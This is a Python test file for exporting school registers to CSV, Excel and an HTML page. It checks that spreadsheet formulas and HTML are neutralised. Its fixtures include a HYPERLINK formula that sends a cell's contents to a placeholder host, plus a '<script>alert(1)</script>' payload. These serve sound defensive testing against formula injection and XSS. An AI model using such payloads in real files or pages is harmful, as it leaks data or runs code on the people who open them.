"""A register taken out, opened with what others read it with: a spreadsheet, a program for CSV, a reader of pages."""

import csv
import re
import xml.etree.ElementTree as ET
from base64 import b64decode
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import cache
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from bot.settings import DEMO_SCHOOLS
from cards.registers_export import register_csv, register_page, register_workbook
from domain.people import School
from domain.register_terms import DEFINITIONS, FieldType, RecordState, RegisterKind
from domain.registers import Change, Record, RegisterExport, Shown, Version, standing
from storage.school_files import load_schools

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"see")'
AT = datetime(2026, 11, 24, 10, tzinfo=UTC)
KINDS = pytest.mark.parametrize("kind", RegisterKind)


@cache
def school() -> School:
    """One whose name is not harmless in a spreadsheet, nor on a page."""
    found = next(iter(load_schools(DEMO_SCHOOLS).values()))
    return replace(found, name="=1+1 & <b>Ysgol T\u0177 G\u0175yr</b>")


def _shown(kind: RegisterKind, line: int, number: int, text: str) -> Shown:
    """A wording of a line; the second is a decision."""
    typed = {
        FieldType.LEVEL: str(line % 5 + 1),
        FieldType.MOMENT: (AT + timedelta(days=line)).isoformat(),
        FieldType.STAFF: "p",
        FieldType.CASE: "i",
    }
    values = {spec.id: (spec.options or (typed.get(spec.type, text),))[0] for spec in DEFINITIONS[kind].fields}
    change = Change.ADDED if number == 1 else Change.MOVED
    state = DEFINITIONS[kind].begins if number == 1 else RecordState.CLOSED
    at = AT + timedelta(hours=line, minutes=number)
    version = Version(f"v{line}-{number}", f"r{line}", number, "p", at, change, state, values, text if number > 1 else "")
    staff = {spec.id: FORMULA for spec in DEFINITIONS[kind].fields if spec.type is FieldType.STAFF}
    return Shown(version, "-1+1 Okafor", staff, "CSS-2026-4071")


@cache
def taken_out(kind: RegisterKind, *, lines: int = 4) -> RegisterExport:
    """Lines of which every second one is closed, with words that a spreadsheet would run and a page would draw."""
    found: list[tuple[Record, tuple[Shown, ...]]] = []
    for line in range(lines):
        words = (FORMULA, "<script>alert(1)</script>", "+44 7700 900123", "Laptops, \u201cborrowed\u201d;\nover night")[
            line % 4
        ]
        history = tuple(_shown(kind, line, number, words) for number in range(1, 2 + line % 2))
        reference = f"CSS-{DEFINITIONS[kind].letter}-2026-{4071 + line}"
        found.append((standing(f"r{line}", kind, reference, history[-1].version, "p"), history))
    return RegisterExport(kind, AT, tuple(found))


def _opened(kind: RegisterKind) -> Workbook:
    return load_workbook(BytesIO(register_workbook(school(), taken_out(kind))))


def _texts(rows: Sequence[Sequence[object]]) -> list[list[str]]:
    return [["" if value is None else str(value) for value in row] for row in rows]


@KINDS
def test_the_csv_has_every_change_of_every_line(kind: RegisterKind) -> None:
    """A row each, under heads, the newest of a line marked; no cell is a formula, and no word is lost."""
    heads, *rows = csv.reader(StringIO(register_csv(school(), taken_out(kind)), newline=""))
    lines = [dict(zip(heads, row, strict=True)) for row in rows]
    assert len(heads) == len(set(heads))
    assert [line[heads[0]] for line in lines] == [
        record.reference for record, history in taken_out(kind).lines for _ in history
    ]
    newest = [line for line in lines if line["Newest wording"] == "yes"]
    assert [line[heads[0]] for line in newest] == [record.reference for record, _ in taken_out(kind).lines]
    assert not [value for row in (heads, *rows) for value in row if value[:1] in tuple("=+-@\t\r\n")]
    assert f"'{FORMULA}" in rows[0]
    assert any("over night" in value for row in rows for value in row)


@KINDS
def test_the_workbook_opens_with_sheets_that_say_the_same(kind: RegisterKind) -> None:
    """The lines as they read now and every change of them; what looks like a formula is a text, and heads stay in sight."""
    book = _opened(kind)
    assert str(book.properties.title).endswith("24 November 2026")
    names = ["Lines", "Matrix", "Every change"] if kind is RegisterKind.RISK else ["Lines", "Every change"]
    assert book.sheetnames == names
    export = taken_out(kind)
    lines, changes = book["Lines"], book["Every change"]
    assert [row[0] for row in lines.iter_rows(min_row=2, values_only=True)] == [r.reference for r, _ in export.lines]
    told = csv.reader(StringIO(register_csv(school(), export), newline=""))
    assert _texts([*changes.iter_rows(values_only=True)]) == [list(row) for row in told]
    assert [sheet.freeze_panes for sheet in (lines, changes)] == ["B2", "B2"]
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n"}
    assert f"'{FORMULA}" in {c.value for c in cells}


def test_the_matrix_counts_live_risks_alone() -> None:
    """The worst corner is above on the right, and each says in a word how bad it is, not by a colour alone."""
    sheet = _opened(RegisterKind.RISK)["Matrix"]
    rows = [*sheet.iter_rows(values_only=True)]
    counted = sum(int(str(value).split()[0]) for row in rows[1:] for value in row[1:])
    assert counted == sum(record.is_live for record, _ in taken_out(RegisterKind.RISK).lines)
    assert "high" in str(rows[1][-1])
    assert "low" in str(rows[-1][1])


@KINDS
def test_the_page_is_right_without_eyes_and_saves_both_files(kind: RegisterKind) -> None:
    """A table with heads for its rows too and a name; what was typed is text; the two files are in it whole."""
    export = taken_out(kind)
    page = register_page(school(), export)
    body = ET.fromstring(f"<body>{page}</body>")
    assert [h.tag for h in body.iter() if re.fullmatch("h[1-6]", h.tag)] == ["h1"]
    (table,) = body.iter("table")
    caption = table.find("caption")
    assert caption is not None
    assert "".join(caption.itertext())
    assert [th.text for th in table.iter("th") if th.get("scope") == "row"] == [r.reference for r, _ in export.lines]
    assert len([th for th in table.iter("th") if th.get("scope") == "col"]) == len(list(table.find("thead/tr") or ()))
    assert FORMULA in {"".join(cell.itertext()) for cell in table.iter("td")}, "on a page it is as it was typed"
    assert "<script" not in page
    assert "<b>" not in page
    saved = {a.get("download", "").rpartition(".")[2]: a.get("href", "").partition(",")[2] for a in body.iter("a")}
    assert b64decode(saved["csv"]).decode("utf-8-sig") == register_csv(school(), export)
    assert load_workbook(BytesIO(b64decode(saved["xlsx"]))).sheetnames == _opened(kind).sheetnames


@KINDS
def test_an_empty_register_can_be_taken_out(kind: RegisterKind) -> None:
    """At the end of its first year a school may have nothing to show, and shows that."""
    empty = RegisterExport(kind, AT, ())
    assert len(list(csv.reader(StringIO(register_csv(school(), empty))))) == 1
    assert load_workbook(BytesIO(register_workbook(school(), empty)))["Lines"].max_row == 1
    assert "<tbody></tbody>" in register_page(school(), empty)
